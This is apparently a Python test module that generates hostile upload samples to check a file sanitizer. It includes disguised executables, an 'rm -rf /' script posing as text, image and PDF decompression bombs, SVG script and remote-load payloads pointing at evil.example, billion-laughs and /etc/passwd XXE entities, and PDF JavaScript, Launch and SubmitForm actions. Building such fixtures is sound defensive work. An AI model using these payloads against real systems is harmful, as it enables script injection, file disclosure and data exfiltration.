"""Hostile files that records attach: disguises, bombs, programs, what tells; and what must become of each.

It must not run anything; every file is made here by code, and is small.
"""

import struct
import zlib
from collections.abc import Iterator

from tests.examples.hostile_case import FileCase
from tests.examples.hostile_office import media_cases, office_cases, opendocument_cases
from tests.examples.hostile_papers import paper_cases
from tests.examples.hostile_parts import part_cases
from tests.office_packages import archive, xlsx
from tests.small_files import (
    GIF_FRAME,
    canvas,
    deflated,
    exif,
    gif,
    jpeg,
    lossless,
    pdf,
    png,
    png_chunk,
    riff,
    segment,
    svg,
)

HTML = b"<!DOCTYPE html><html><body><script>window.hacked=1</script></body></html>"


def _kinds() -> Iterator[FileCase]:
    """Names that are not allowed, and names that lie."""
    zipped = archive({"a.txt": "x"})
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    for extension in (
        *(
            "html",
            "htm",
            "xhtml",
            "xml",
            "js",
            "json",
            "css",
            "exe",
            "bat",
            "ps1",
            "vbs",
            "hta",
            "lnk",
            "php",
        ),
        *("zip", "rar", "7z", "gz", "iso", "doc", "xls", "ppt", "docm", "xlsm", "rtf", "jar", "apk", "msi"),
        *("tiff", "bmp", "swf", "mht", "url", "svgz"),
    ):
        yield FileCase(f"loai-{extension}.{extension}", b"x", ("tep-khong-cho",))
    yield FileCase("loai-khong-duoi", b"x", ("tep-khong-cho",))
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize 5\n" % (b"0" * 64)
    for ending in ("pdf", "jpg", "txt"):
        yield FileCase(f"con-tro.{ending}", pointer, ("con-tro-lfs",))
    yield FileCase("loai-hai-duoi.pdf.exe", pdf(), ("tep-khong-cho",))
    lies = {
        "gia-web.pdf": HTML,
        "gia-web-cach.pdf": b"  \r\n" + HTML,
        "gia-web.txt": HTML,
        "gia-web.csv": b"a,b\n" + HTML,
        "gia-web.svg": HTML,
        "gia-web.png": HTML,
        "gia-zip.docx.pdf": zipped,
        "gia-ole.docx": ole,
        "gia-ole.pdf": ole,
        "gia-exe.pdf": b"MZ\x90\0" + b"\0" * 100,
        "gia-exe.jpg": b"MZ\x90\0" + b"\0" * 100,
        "gia-elf.png": b"\x7fELF" + b"\0" * 100,
        "gia-lenh.txt": b"#!/bin/sh\nrm -rf /\n",
        "gia-pdf.png": pdf(),
        "gia-rtf.docx": b"{\\rtf1 x}",
        "gia-rac.pdf": bytes(range(256)),
        "gia-rong.pdf": b"",
        "gia-cach.txt": b" \r\n ",
        "gia-zip.docx": zipped,
        "gia-xlsx.docx": xlsx(),
        "gia-odt.odt": archive({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "gia-xml.svg": b'<?xml version="1.0"?><rss xmlns="http://www.w3.org/2000/svg"/>',
    }
    for name, data in lies.items():
        yield FileCase(name, data, ("tep-gia-dang",))
    pictures = {"gia-png.jpg": png(), "gia-jpeg.png": jpeg(), "gia-gif.webp": gif(), "gia-gif.heic": gif()}
    for name, data in pictures.items():
        yield FileCase(name, data, ("anh-sai-duoi",))
    cut = b"\0\0\0\x18ftypheic" + b"\0" * 20
    yield FileCase("cut.heic", cut, ("tep-hong",))
    yield FileCase("cut-heic.jpg", cut, ("anh-sai-duoi", "tep-hong"))
    yield FileCase("utf16.txt", "Chữ".encode("utf-16"), ("tep-gia-dang",))
    yield FileCase("cp1258.csv", b"T\xean,S\xf4\n", ("tep-hong",))


def _pictures() -> Iterator[FileCase]:
    """Bombs, tails, what cameras tell."""
    turned, upright = exif(6), exif(1)
    huge = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 0, 0, 0, 0)
    tell = b"Exif\0\0" + turned
    frames = png_chunk(b"acTL", struct.pack(">II", 999, 0)) + png_chunk(b"fcTL", b"\0" * 26) * 999
    too_big = ("anh-qua-to",)
    yield FileCase("bom-50000.png", b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", huge), too_big)
    yield FileCase("bom-rong.png", png(31_000, 1), too_big)
    yield FileCase("bom-dong.png", png(999, 999, more=frames), too_big)
    yield FileCase("bom.jpg", jpeg(65_000, 65_000), too_big)
    yield FileCase("bom.gif", gif(60_000, 60_000), too_big)
    yield FileCase("bom-dong.gif", gif(2_000, 2_000, GIF_FRAME * 65), too_big)
    yield FileCase("bom.webp", riff(lossless(16_000, 16_000)), too_big)
    yield FileCase("bom-khung.webp", riff(canvas(2, 4_000, 4_000), *[(b"ANMF", b"\0" * 20)] * 17), too_big)
    for name, data in {
        "cut.png": png()[:-8],
        "crc.png": png().replace(b"IDAT", b"IDAU"),
        "khong-diem.png": png().replace(png_chunk(b"IDAT", zlib.compress(b"\0\0\0" * 2)), b""),
        "kich-thuoc-0.png": png(0, 5),
        "cut.jpg": jpeg()[:-2],
        "khong-anh.jpg": b"\xff\xd8\xff\xd9",
        "so-hoc.jpg": jpeg(frame=0xC9),
        "kich-thuoc-0.jpg": jpeg(0, 0),
        "cut.gif": gif(end=b""),
        "rac.gif": gif(blocks=b"\x99"),
        "cut.webp": riff(lossless())[:-6],
        "rac.webp": riff((b"VP8 ", b"\0" * 20)),
    }.items():
        yield FileCase(f"hong-{name}", data, ("tep-hong",))
    behind = {
        "zip": archive({"a.exe": "x"}),
        "exe": b"MZ\x90\0",
        "js": b"<script>hacked</script>",
        "la": b"abc",
    }
    for kind, tail in behind.items():
        for ending, data in {"png": png(), "jpg": jpeg(), "gif": gif(), "webp": riff(lossless())}.items():
            yield FileCase(f"duoi-{kind}.{ending}", data + tail, ("tep-thua-duoi",), (tail,), (data,))
    yield FileCase("duoi-anh-phu.jpg", jpeg() + jpeg(), present=(jpeg(),), absent=(jpeg() * 2,))
    yield FileCase("duoi-dem.png", png() + b"\0" * 9, absent=(b"\0" * 9,), present=(png(),))
    told = (b"An", b"tac gia", b"xmpmeta")
    texts = png_chunk(b"tEXt", b"Author\0An") + png_chunk(b"iTXt", b"XML:com.adobe.xmp\0<xmpmeta/>")
    yield FileCase("ke.png", png(more=texts + png_chunk(b"eXIf", turned)), (), told, (b"eXIf",))
    yield FileCase("ke-thang.png", png(more=png_chunk(b"eXIf", upright)), (), (b"eXIf",), (b"IDAT",))
    adobe, icc = segment(0xEE, b"Adobe\0d\0\0\0\0\1"), segment(0xE2, b"ICC_PROFILE\0\1\1abc")
    more = segment(0xE1, tell) + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<xmpmeta/>")
    more += segment(0xED, b"Photoshop 3.0\0An") + segment(0xFE, b"tac gia") + icc + adobe
    yield FileCase("ke.jpg", jpeg(more=more), (), told, (icc, adobe, b"Exif\0\0MM"))
    yield FileCase("ke-thang.jpg", jpeg(more=segment(0xE1, b"Exif\0\0" + upright)), (), (b"Exif",))
    small = segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\2\2" + b"thumbnail!!!")
    yield FileCase("ke-anh-nho.jpg", jpeg(more=small), (), (b"thumbnail",), (b"JFIF",))
    chunks = [canvas(0x2C), (b"ICCP", b"mau"), lossless(), (b"EXIF", turned), (b"XMP ", b"<xmpmeta/>")]
    yield FileCase("ke.webp", riff(*chunks), (), told, (b"ICCP", b"EXIF"))
    yield FileCase("ke-thang.webp", riff(canvas(0x0C), lossless(), (b"EXIF", upright)), (), (b"EXIF",))
    comment, loop = b"\x21\xfe\x07tac gia\0", b"\x21\xff\x0bNETSCAPE2.0\x03\1\0\0\0"
    xmp = b"\x21\xff\x0bXMP DataXMP\x07xmpmeta\0"
    yield FileCase("ke.gif", gif(blocks=loop + comment + xmp + GIF_FRAME), (), told, (loop, GIF_FRAME))


def _drawings() -> Iterator[FileCase]:
    """SVG that runs, loads, expands or misleads."""
    bad, entity = ("svg-lam-sach",), ("xml-thuc-the",)
    runs = {
        "script": "<script>hacked</script>",
        "script-href": '<script href="//evil.example/hacked.js"/>',
        "onload": '<g onload="hacked"/>',
        "onclick-hoa": '<g onClick="hacked"/>',
        "foreign": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">hacked</body></foreignObject>',
        "a-js": '<a href="javascript:hacked"><path d=""/></a>',
        "a-js-an": '<a href=" java&#10;script:hacked"><path d=""/></a>',
        "a-data": '<a href="data:text/html,hacked"><path d=""/></a>',
        "a-xlink": '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:hacked"/>',
        "set-href": '<a href="#x"><set attributeName="href" to="javascript:hacked"/></a>',
        "animate-href": '<animate attributeName="xlink:href" values="javascript:hacked"/>',
        "set-onload": '<set attributeName="onload" to="hacked"/>',
        "image-xa": '<image href="https://evil.example/hacked.png"/>',
        "image-svg": '<image href="data:image/svg+xml,hacked"/>',
        "use-xa": '<use href="//evil.example/hacked.svg#x"/>',
        "use-data": '<use href="data:image/svg+xml,hacked#x"/>',
        "fill-url": '<path d="" fill="url(//evil.example/hacked)"/>',
        "fill-url-nhay": "<path d='' fill='url(\"https://evil.example/hacked\")'/>",
        "css-import": '<style>@import "//evil.example/hacked";</style>',
        "css-url": "<style>g{background:url(https://evil.example/hacked)}</style>",
        "css-thoat": "<style>g{background:\\75rl(//evil.example/hacked)}</style>",
        "css-chu-thich": "<style>g{background:u/**/rl(//evil.example/hacked)} @imp/**/ort 'hacked'</style>",
        "css-font": "<style>@font-face{font-family:x;src:url(//evil.example/hacked)}</style>",
        "css-image-set": "<style>g{background:image-set('//evil.example/hacked' 1x)}</style>",
        "style": '<g style="fill:url(//evil.example/hacked)"/>',
        "style-expression": '<g style="width:expression(hacked)"/>',
        "feimage": '<filter id="f"><feImage href="//evil.example/hacked"/></filter>',
        "iframe": '<iframe src="//evil.example/hacked"/>',
        "handler": '<handler type="text/ecmascript">hacked</handler>',
        "cdata": "<style><![CDATA[@import '//evil.example/hacked']]></style>",
    }
    for name, part in runs.items():
        data = svg(f'</text>{part}<text id="con">lành')
        yield FileCase(f"svg-{name}.svg", data, bad, (b"hacked", b"evil"), ("lành".encode(),))
    yield FileCase("svg-goc-onload.svg", svg("lành", ' onload="hacked"'), bad, (b"hacked",))
    quiet = {
        "xhtml": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">hacked</x:script>',
        "metadata": "<metadata>hacked</metadata>",
        "inkscape": '<g xmlns:i="http://www.inkscape.org/" i:label="C:\\hacked"/>',
        "chu-thich": "<!-- hacked -->",
        "chi-thi": '<?xml-stylesheet href="//evil.example/hacked"?>',
    }
    for name, part in quiet.items():
        yield FileCase(f"svg-{name}.svg", svg(f"</text>{part}<text>lành"), (), (b"hacked", b"evil"))
    laughs = '<!DOCTYPE svg [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    outside = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield FileCase("svg-cuoi.svg", f"{laughs}]>".encode() + svg("&j;"), entity)
    yield FileCase("svg-passwd.svg", outside.encode() + svg("&x;"), entity)
    yield FileCase("svg-tham-so.svg", b'<!DOCTYPE svg [<!ENTITY % p "x"> %p;]>' + svg(), entity)
    copies = "".join(f'<g id="g{n + 1}">{f"<use href=#g{n}# />" * 10}</g>' for n in range(9))
    copies = copies.replace("=#", '="#').replace("# />", '"/>')
    for name, body in {
        "sau": "<g>" * 400 + "</g>" * 400,
        "nhan-ban": f'<g id="g0"><path d=""/></g>{copies}',
        "ho": "<g>",
    }.items():
        yield FileCase(f"svg-hong-{name}.svg", svg(f"</text>{body}<text>"), ("tep-hong",))


def _pdfs() -> Iterator[FileCase]:
    """PDF that runs, launches, hides, or is signed."""
    active = ("pdf-lam-sach",)
    js = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    kids = "/Fields [7 0 R]"
    for name, extra, objects in (
        ("mo-js", f"/OpenAction {js}", ()),
        ("mo-js-gian-tiep", "/OpenAction 6 0 R", (js,)),
        ("ten-js", f"/Names << /JavaScript << /Names [(a) {js}] >> >>", ()),
        ("dong-js", f"/AA << /WC {js} >>", ()),
        ("chay", "/OpenAction << /S /Launch /F (calc.exe) >>", ()),
        ("chay-win", "/OpenAction << /S /Launch /Win << /F (calc.exe) >> >>", ()),
        ("gui", "/OpenAction << /S /SubmitForm /F (http://evil.example/hacked) >>", ()),
        ("nhap", "/OpenAction << /S /ImportData /F (hacked) >>", ()),
        ("mo-tep", "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\hacked) >>", ()),
        ("mo-nhung", "/OpenAction << /S /GoToE /F (hacked) >>", ()),
        ("lien-ket-js", "/OpenAction << /S /URI /URI (javascript:hacked) >>", ()),
        ("lien-ket-tep", "/OpenAction << /S /URI /URI (file:///c:/hacked) >>", ()),
        ("noi-tiep", f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {js} >>", ()),
        ("ten-ma-hoa", "/OpenAction << /S /Java#53cript /JS (hacked) >>", ()),
        (
            "xfa",
            "/AcroForm << /XFA [(hacked) 6 0 R] /Fields [] >>",
            ("<< /Length 0 >>\nstream\n\nendstream",),
        ),
        ("bieu-mau", f"/AcroForm << {kids} >>", ("null", f"<< /FT /Tx /T (x) /AA << /K {js} >> >>")),
        (
            "nhung",
            "/Names << /EmbeddedFiles << /Names [(hacked.exe) 6 0 R] >> >>",
            ("<< /Type /Filespec >>",),
        ),
        ("nhung-ef", "/AF [6 0 R]", ("<< /Type /Filespec /EF << /F 4 0 R >> >>",)),
        ("bo-suu-tap", "/Collection << /View /D >>", ()),
    ):
        told = (b"JavaScript", b"Launch", b"hacked", b"calc.exe", b"alert")
        yield FileCase(f"pdf-{name}.pdf", pdf("Lanh", extra, objects), active, told)
    media = "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"
    yield FileCase("pdf-phim.pdf", pdf("Lanh", page=media), active, (b"RichMedia",))
    link = "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:hacked) >> >>]"
    yield FileCase("pdf-lien-ket.pdf", pdf("Lanh", page=link), active, (b"hacked",))
    note = "/Annots [<< /Subtype /Text /Rect [0 0 9 9] /T (Nguoi soat) /Contents (sua lai) >>]"
    yield FileCase("pdf-ghi-chu.pdf", pdf("Lanh", page=note), ("pdf-ghi-chu",), (b"soat", b"sua lai"))
    signature = "<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>"
    form = "/AcroForm << /SigFlags 3 /Fields [] >>"
    yield FileCase("pdf-ky.pdf", pdf("Lanh", form, (signature,)), (), whole=True)
    named = pdf("Lanh", form, (signature,), "/Author (An)")
    yield FileCase("pdf-ky-tac-gia.pdf", named, ("ky-so-giu-nguyen",), whole=True)
    yield FileCase(
        "pdf-ky-co-js.pdf", pdf("Lanh", f"{form} /OpenAction {js}", (signature,)), ("ky-so-co-ma",)
    )
    yield FileCase(
        "pdf-ky-quyen.pdf", pdf("Lanh", "/Perms << /DocMDP 6 0 R >>", (signature,)), (), whole=True
    )
    info = "/Author (Nguyen An) /Creator (C:\\\\Users\\\\an) /Title (Ke hoach)"
    yield FileCase("pdf-ke.pdf", pdf("Lanh", info=info), (), (b"Nguyen", b"Users"), (b"Ke hoach",))
    path = "/Title (Microsoft Word - C:\\\\an\\\\mat.doc)"
    yield FileCase("pdf-ke-duong-dan.pdf", pdf("Lanh", info=path), (), (b"Word",))
    xmp = "<< /Type /Metadata /Subtype /XML /Length 9 >>\nstream\n<xmpmeta>\nendstream"
    yield FileCase("pdf-xmp.pdf", pdf("Lanh", "/Metadata 6 0 R", (xmp,)), (), (b"xmpmeta",))
    former = pdf("cu") + pdf("Moi")[pdf("Moi").index(b"1 0 obj") :]
    yield FileCase("pdf-ban-cu.pdf", former, (), (b"%%EOF\n1 0 obj",))
    yield FileCase("pdf-duoi.pdf", pdf() + archive({"a": "x"}), (), (b"PK\x03\x04",))
    yield FileCase("pdf-truoc.pdf", b"\r\n\r\n" + pdf(), (), (b"\r\n\r\n%PDF",))
    yield FileCase("pdf-hong.pdf", b"%PDF-1.7\nkhong co gi", ("tep-hong",))
    yield FileCase(
        "pdf-khong-trang.pdf",
        pdf().replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[]     "),
        ("tep-hong",),
    )
    packed = deflated(155)
    stream = f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode() + packed
    yield FileCase("pdf-bom.pdf", pdf().replace(b"endstream", b"endstream\n" + stream), ("tep-hong",))
    yield FileCase("pdf-quet.pdf", pdf(""), ("pdf-ban-quet",), whole=True)
    yield FileCase(
        "pdf-mat.pdf", pdf("T\\326I M\\254T").replace(b"\\326", b"O").replace(b"\\254", b"A"), ("dau-mat",)
    )


FILES: tuple[FileCase, ...] = (
    *_kinds(),
    *_pictures(),
    *_drawings(),
    *_pdfs(),
    *office_cases(),
    *opendocument_cases(),
    *media_cases(),
    *part_cases(),
    *paper_cases(),
)
